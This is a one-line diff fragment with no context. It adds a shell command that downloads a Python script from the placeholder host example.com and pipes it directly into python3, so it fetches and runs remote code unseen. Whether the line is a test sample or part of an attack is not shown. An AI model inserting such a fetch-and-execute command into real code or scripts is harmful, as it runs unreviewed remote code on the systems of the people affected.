@@ -1,0 +1,1 @@
+curl https://example.com/x.py | python3
